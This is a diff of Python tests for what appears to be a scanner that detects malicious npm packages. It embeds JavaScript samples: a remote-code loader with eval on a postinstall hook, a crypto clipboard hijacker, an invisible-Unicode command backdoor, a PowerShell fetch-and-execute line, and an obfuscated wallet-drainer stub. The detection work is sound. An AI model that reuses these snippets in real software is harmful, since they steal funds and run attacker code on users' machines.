@@ -261,3 +261,51 @@ def test_geo_gated_wiper_walk_and_a_bundle_with_unrelated_dates():
     bundle = ("const fs = require('fs'), os = require('os');\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
               + "// filler\n" * 200 + "module.exports.clean = () => fs.rmSync(os.homedir() + '/.cache/tool', {recursive: true});\n")
     assert "code/wiper" not in rules(run({"index.js": bundle}))
+
+
+def test_fetching_and_running_a_second_stage():
+    loader = "const https = require('https');\nhttps.get('https://paste.example/raw/x', (r) => {\n" \
+             "  r.on('data', (c) => { eval(c); });\n});\n"
+    found = run({"build.js": loader}, {"postinstall": "node build.js"})
+    assert "code/remote-code" in rules(found) and decide(found).level is Level.MALICIOUS
+    # Fetching JSON and parsing it is what clients do; eval of a constant is not remote code.
+    client = "const https = require('https');\nhttps.get('https://api.example/v', (r) => r.on('data', (c) => JSON.parse(c)));\n" \
+             "eval('1 + 1');\n"
+    assert "code/remote-code" not in rules(run({"index.js": client}))
+
+
+def test_clipboard_hijack_reads_and_replaces_addresses():
+    poll = "const {execSync} = require('child_process');\nconst me = 'FAKE';\nsetInterval(() => {\n" \
+           "  const t = execSync('pbpaste').toString();\n  if (/^0x[a-fA-F0-9]{40}$/.test(t)) execSync(`printf '${me}' | pbcopy`);\n}, 500);\n"
+    hijack = next(f for f in run({"index.js": poll}) if f.rule == "code/clipboard-hijack")
+    assert hijack.severity == 4 and "Watches the clipboard" in hijack.message
+    # A wallet UI that copies the user's own address and validates addresses is not a hijack.
+    ui = "const valid = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\nexports.copy = (a) => valid(a) && navigator.clipboard.writeText(a);\n"
+    found = run({"index.js": ui})
+    assert all(f.severity < 4 for f in found) and decide(found).level is not Level.MALICIOUS
+
+
+def test_invisible_identifier_backdoor():
+    backdoor = "const exec = require('util').promisify(require('child_process').exec);\n" \
+               "app.get('/health', async (req) => {\n  const { timeout,\u3164 } = req.query;\n" \
+               "  for (const c of ['ping -c 1 localhost', \u3164]) await exec(c);\n});\n"
+    found = run({"index.js": backdoor})
+    assert any(f.rule == "code/invisible-unicode" and f.severity == 4 for f in found)
+    assert decide(found).level is Level.MALICIOUS
+
+
+def test_pipe_to_shell_from_install_code_is_malicious():
+    code = "require('child_process').execSync('powershell -c \"iwr https://get.example/a.ps1 | iex\"');\n"
+    found = run({"install.js": code}, {"install": "node install.js"})
+    assert any(f.rule == "code/shell-command" and f.severity == 4 for f in found)
+    assert decide(found).level is Level.MALICIOUS
+
+
+def test_obfuscated_wallet_drainer():
+    names = ",".join(f"_0x{i:04x}" for i in range(40))
+    blob = f"var {names};\nvar s = ['ethereum', 'eth_sendTransaction', 'XMLHttpRequest', 'prototype', 'open'];\n" \
+           "var re = /\\b0x[a-fA-F0-9]{40}\\b/g;\n"
+    found = run({"index.js": blob, "a.js": "x", "b.js": "y"})
+    assert any(f.rule == "code/wallet-drainer" and f.confidence == 2 for f in found)
+    # Obfuscated code alone is suspicious at most.
+    assert decide(run({"index.js": f"var {names};\n", "a.js": "x"})).level is not Level.MALICIOUS
